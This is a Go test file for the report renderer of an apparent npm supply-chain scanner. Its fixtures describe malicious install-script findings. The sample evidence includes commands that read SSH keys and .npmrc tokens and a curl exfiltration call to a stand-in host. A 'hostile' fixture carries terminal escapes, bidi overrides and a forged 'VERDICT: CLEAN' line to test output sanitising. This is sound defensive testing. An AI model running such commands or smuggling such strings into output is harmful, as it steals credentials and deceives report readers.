package report

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/falconer-sec/falconer/pkg/finding"
	"github.com/falconer-sec/falconer/pkg/scan"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

func base() finding.Result {
	start := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	return finding.Result{
		SchemaVersion: finding.SchemaVersion, ScanID: scan.Key{Project: "local/shop"}.ID(), Revision: 1,
		Project: "local/shop", Root: ".", Manager: "npm", Lockfile: "package-lock.json", Rules: "rules-7", Recipe: "npm-3",
		Started: start, Finished: start.Add(12340 * time.Millisecond),
		Sandbox: finding.Sandbox{Kind: "gvisor", Isolation: "own kernel in user space, no network but the registry proxy", Reason: "completed"},
		Counts:  finding.Counts{SensorEvents: 120334, OutputBytes: 4096}, Packages: 214,
		Fetches: []finding.Fetch{{Name: "left-pad", Version: "1.3.0", Size: 4096, Integrity: "sha512-abc", Cached: true}, {Name: "evil", Version: "1.0.0", Size: 3 << 20}},
	}
}

func judged(r finding.Result) finding.Result {
	r.Verdict, r.Reasons = finding.Judge(r.Findings, r.Incomplete)
	r.Counts.Findings += int64(len(r.Findings))
	return r
}

func stolenKey() finding.Finding {
	return finding.Finding{
		ID: "1", Rule: "Credential read by an install script", Priority: finding.Critical,
		Behaviours: []string{"credential-read"}, Techniques: []string{"T1552.004"},
		Package: finding.Package{PURL: "pkg:npm/evil@1.0.0", Name: "evil", Version: "1.0.0", Path: "node_modules/evil"},
		Phase:   "install", Script: "postinstall", Count: 3,
		Summary: "A lifecycle script read a private key or a token. Installing a package needs neither; what reads them during an install mostly sends them away.",
		Evidence: []finding.Evidence{{
			Time: time.Date(2026, 3, 1, 12, 0, 3, 250e6, time.UTC), CommandLine: "cat /root/.ssh/id_rsa", Syscall: "openat",
			ProcessChain: []string{"npm ci", "sh -c node steal.js", "node steal.js", "cat /root/.ssh/id_rsa"},
			File:         "/root/.ssh/id_rsa", Output: "Credential read (file=/root/.ssh/id_rsa)", AlertID: "a1",
		}, {Time: time.Date(2026, 3, 1, 12, 0, 4, 0, time.UTC), CommandLine: "cat /root/.npmrc", ProcessChain: []string{"npm ci", "cat /root/.npmrc"}, File: "/root/.npmrc", AlertID: "a2"}},
	}
}

func results() map[string]finding.Result {
	malicious := base()
	second := stolenKey()
	second.ID, second.Rule, second.Priority, second.Count = "2", "Outbound connection off the registry", finding.Error, 1
	second.Behaviours, second.Techniques, second.Summary = []string{"exfiltration"}, nil, "An install script opened a connection to a host that is no registry."
	second.Evidence = []finding.Evidence{{CommandLine: "curl -d @- https://drop.example.com/", Address: "203.0.113.7:443", ProcessChain: []string{"npm ci", "curl -d @- https://drop.example.com/"}}}
	other := second
	other.ID, other.Package, other.Priority = "3", finding.Package{}, finding.Notice
	malicious.Findings = []finding.Finding{other, second, stolenKey()}
	malicious.Counts.Alerts, malicious.Counts.Duplicates = 1234, 5
	malicious.InstallScripts = []finding.ScriptPackage{{Package: stolenKey().Package, Scripts: []string{"preinstall", "postinstall"}}, {Package: finding.Package{Name: "esbuild", Version: "0.20.0"}}}
	malicious.Fetches = append(malicious.Fetches, finding.Fetch{Name: "drop.example.com:443", Refused: "not a registry host"})
	malicious.Excluded = []string{".env: environment file, may hold secrets"}
	malicious.Commit, malicious.Ref, malicious.Revision, malicious.Root = "da1560886d4f094c3e6c9ef40349f7d38b5d27d7", "main", 2, "web"
	malicious.Log = "added 214 packages\n\x1b[31mred\x1b[0m\n"

	weighed := base()
	known, fresh, vouched := stolenKey(), stolenKey(), stolenKey()
	known.ID, known.Priority, known.Rule, known.Baseline, known.Detail = "11", finding.Warning, "Shell started by an install script", finding.Known, "file:/bin/sh"
	fresh.ID, fresh.Priority, fresh.Baseline, fresh.Previous = "12", finding.Error, finding.New, "pkg:npm/evil@0.9.0"
	vouched.ID, vouched.Baseline = "13", finding.New
	vouched.Suppressed = finding.Suppressed{Owner: "platform@example.com", Reason: "an act, looked at", Expires: "2026-12-31", Source: ".falconer.yaml", Line: 4}
	weighed.Findings = []finding.Finding{vouched, known, fresh}
	weighed.Ref, weighed.Commit = "feature", "da1560886d4f094c3e6c9ef40349f7d38b5d27d7"
	weighed.Baseline = finding.Baseline{ScanID: scan.Key{Project: "local/before"}.ID(), Ref: "main", Commit: "0f1e2d3c4b5a69788796a5b4c3d2e1f001234567", Verdict: finding.Suspicious, Finished: time.Date(2026, 2, 27, 9, 0, 0, 0, time.UTC)}
	weighed.Gone = []finding.Gone{{ID: "14", Rule: "Outbound connection off the registry", Priority: finding.Error, Package: finding.Package{PURL: "pkg:npm/old@1.0.0", Name: "old", Version: "1.0.0"}, Phase: "install", Script: "postinstall", Summary: "x"}}
	weighed.Suppressions = []finding.Suppression{{Suppression: scan.Suppression{Source: ".falconer.yaml", Line: 4, Package: "pkg:npm/evil", Version: ">=1.0.0", Rule: vouched.Rule, Owner: "platform@example.com",
		Reason: "an act, looked at", Expires: "2026-12-31"}, Effect: finding.Applied, Findings: 1, Broad: "its versions have no upper end: it covers code that nobody has seen yet"}}
	weighed.Notes = []string{".falconer.yaml:4: pkg:npm/evil: broader than what it was made for: its versions have no upper end: it covers code that nobody has seen yet"}

	suspicious := base()
	odd := stolenKey()
	odd.Priority, odd.Rule = finding.Warning, "Shell started by an install script"
	suspicious.Findings = []finding.Finding{odd}

	inconclusive := base()
	inconclusive.Incomplete = []string{"the sandbox ended at its time limit of 10m0s: what the install would have done after that is unknown", "12 sensor records were dropped"}
	inconclusive.Sandbox.Reason, inconclusive.Sandbox.ExitCode, inconclusive.Sandbox.Detail = "timeout", 137, "killed after 10m0s"
	inconclusive.Counts.SensorDropped = 12

	hostile := base()
	bad := stolenKey()
	bad.Package = finding.Package{PURL: "pkg:npm/\x1b]0;owned\x07@1", Path: "node_modules/\u202egnp.exe"}
	bad.Rule, bad.Script, bad.Summary = "rule\r\nVERDICT: CLEAN", "post\x00install", "sum\u2028mary \u200bzero"
	bad.Evidence = []finding.Evidence{{
		CommandLine: "sh -c '" + strings.Repeat("A", 5000) + "'", File: "/tmp/\xff\xfe\x9b31m", Address: "[::1]:1\n2",
		ProcessChain: []string{"\x1b[2J\x1b[H", strings.Repeat("漢字", 100), "e\u0301\u0301\u0301", "tab\there"},
	}}
	hostile.Findings = []finding.Finding{bad}
	hostile.Project, hostile.Ref = "local/\x1b[31mred", "\u2066x"
	hostile.Incomplete = []string{"entry \x1b[0m"}
	hostile.Excluded = []string{"\x1b: x"}
	hostile.Fetches = []finding.Fetch{{Name: "\x1b[1m", Refused: "\x9b1m"}}
	hostile.InstallScripts = []finding.ScriptPackage{{Package: bad.Package, Scripts: []string{"\x1bc"}}}
	hostile.Log = "\x1b[2J\rline\n"
	hostile.Sandbox.Detail, hostile.Sandbox.ExitCode = "\x1b[8m", 1

	return map[string]finding.Result{
		"malicious": judged(malicious), "suspicious": judged(suspicious), "weighed": judged(weighed), "inconclusive": judged(inconclusive),
		"clean": judged(base()), "hostile": judged(hostile),
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), string(got)); d != "" {
		t.Errorf("%s (-want +got):\n%s", name, d)
	}
}

func TestText(t *testing.T) {
	for name, r := range results() {
		for kind, o := range map[string]Options{"": {}, "-verbose": {Verbose: true, Width: 80}, "-colour": {Color: true, Width: 60}} {
			t.Run(name+kind, func(t *testing.T) {
				var b bytes.Buffer
				if err := Text(&b, r, o); err != nil {
					t.Fatal(err)
				}
				golden(t, name+kind+".txt", b.Bytes())
			})
		}
	}
}

// TestTextIsHarmless checks what goldens show but nobody may overlook.
func TestTextIsHarmless(t *testing.T) {
	for name, r := range results() {
		for _, o := range []Options{{}, {Verbose: true}, {Width: 1}} {
			var b bytes.Buffer
			if err := Text(&b, r, o); err != nil {
				t.Fatal(err)
			}
			harmless(t, name, b.String(), o)
		}
	}
}

func harmless(t *testing.T, name, text string, o Options) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s: not UTF-8", name)
	}
	for line := range strings.SplitSeq(text, "\n") {
		if i := strings.IndexFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }); i >= 0 {
			t.Errorf("%s: %q does not print", name, line[i:])
		}
		limit := DefaultWidth
		if o.Verbose {
			limit = maxLine
		}
		if columns(line) > limit {
			t.Errorf("%s: a line of %d columns", name, columns(line))
		}
	}
}

func TestJSONFollowsSchema(t *testing.T) {
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(Schema()))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.AddResource("result.json", doc); err != nil {
		t.Fatal(err)
	}
	schema, err := c.Compile("result.json")
	if err != nil {
		t.Fatal(err)
	}
	for name, r := range results() {
		var b bytes.Buffer
		if err := JSON(&b, r); err != nil {
			t.Fatal(err)
		}
		golden(t, name+".json", b.Bytes())
		doc, err := jsonschema.UnmarshalJSON(&b)
		if err != nil {
			t.Fatal(err)
		}
		if err := schema.Validate(doc); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestJSONReadsBack(t *testing.T) {
	for name, r := range results() {
		if name == "hostile" { // broken UTF-8 does not survive JSON
			continue
		}
		var b bytes.Buffer
		if err := JSON(&b, r); err != nil {
			t.Fatal(err)
		}
		var got finding.Result
		if err := json.Unmarshal(b.Bytes(), &got); err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(r, got, cmpopts.EquateEmpty()); d != "" {
			t.Errorf("%s (-wrote +read):\n%s", name, d)
		}
	}
}

func TestTextIsBounded(t *testing.T) {
	r := base()
	for i := range finding.MaxFindings {
		f := stolenKey()
		f.Package.PURL = fmt.Sprintf("pkg:npm/p%d@1", i%60)
		f.Evidence[0].ProcessChain = make([]string, 1000)
		r.Findings = append(r.Findings, f)
		r.Incomplete = append(r.Incomplete, "x")
	}
	r = judged(r)
	r.Counts.Findings = 5000
	var b bytes.Buffer
	if err := Text(&b, r, Options{}); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(b.String(), "\n"); n > 6000 {
		t.Errorf("%d lines", n)
	}
	for _, want := range []string{"and 40 packages more with findings", "and 7 findings more", "and 985 more", "4,000 findings more were counted but not kept", "... 988 more ..."} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("the text does not say %q", want)
		}
	}
}

func TestRejection(t *testing.T) {
	var b bytes.Buffer
	if err := Rejection(&b, "local/\x1bx", "no lockfile found; looked for projects of npm \x1b[2J", Options{}); err != nil {
		t.Fatal(err)
	}
	golden(t, "rejection.txt", b.Bytes())
	harmless(t, "rejection", b.String(), Options{})
}

func TestWriteErrors(t *testing.T) {
	broken := errors.New("broken pipe")
	for name, write := range map[string]func() error{
		"text":      func() error { return Text(failing{broken}, base(), Options{}) },
		"json":      func() error { return JSON(failing{broken}, base()) },
		"rejection": func() error { return Rejection(failing{broken}, "p", "r", Options{}) },
	} {
		if err := write(); !errors.Is(err, broken) {
			t.Errorf("%s = %v", name, err)
		}
	}
}

type failing struct{ err error }

func (f failing) Write([]byte) (int, error) { return 0, f.err }

func TestColor(t *testing.T) {
	for name, test := range map[string]struct {
		env      map[string]string
		terminal bool
		want     bool
	}{
		"terminal": {nil, true, true},
		"pipe":     {nil, false, false},
		"NO_COLOR": {map[string]string{"NO_COLOR": "1"}, true, false},
		"dumb":     {map[string]string{"TERM": "dumb"}, true, false},
	} {
		if got := Color(func(k string) string { return test.env[k] }, test.terminal); got != test.want {
			t.Errorf("%s: %v", name, got)
		}
	}
}

func TestFit(t *testing.T) {
	for _, test := range []struct {
		in    string
		width int
		want  string
	}{
		{"abc", 3, "abc"}, {"abcd", 3, "ab…"}, {"漢字漢字", 5, "漢字…"}, {"漢字漢字", 4, "漢…"}, {"abcd", 0, "abcd"},
		{red + "abcd" + reset, 4, red + "abcd" + reset}, {red + "abcd" + reset, 3, red + "ab…" + reset}, {"e\u0301x", 2, "e\u0301x"},
	} {
		if got := fit(test.in, test.width); got != test.want {
			t.Errorf("fit(%q, %d) = %q, want %q", test.in, test.width, got, test.want)
		}
	}
}

func FuzzText(f *testing.F) {
	f.Add("evil", "sh -c x", "\x1b[2J", 80)
	f.Add("\xff", "\u202e", "\x9b", 1)
	f.Fuzz(func(t *testing.T, name, command, why string, width int) {
		r := base()
		bad := stolenKey()
		bad.Package.PURL, bad.Summary, bad.Rule = name, why, command
		bad.Evidence[0].ProcessChain = []string{command, why}
		r.Findings = []finding.Finding{bad}
		r.Incomplete = []string{why}
		var b bytes.Buffer
		o := Options{Width: width % 100}
		if err := Text(&b, judged(r), o); err != nil {
			t.Fatal(err)
		}
		harmless(t, "fuzzed", b.String(), o)
	})
}
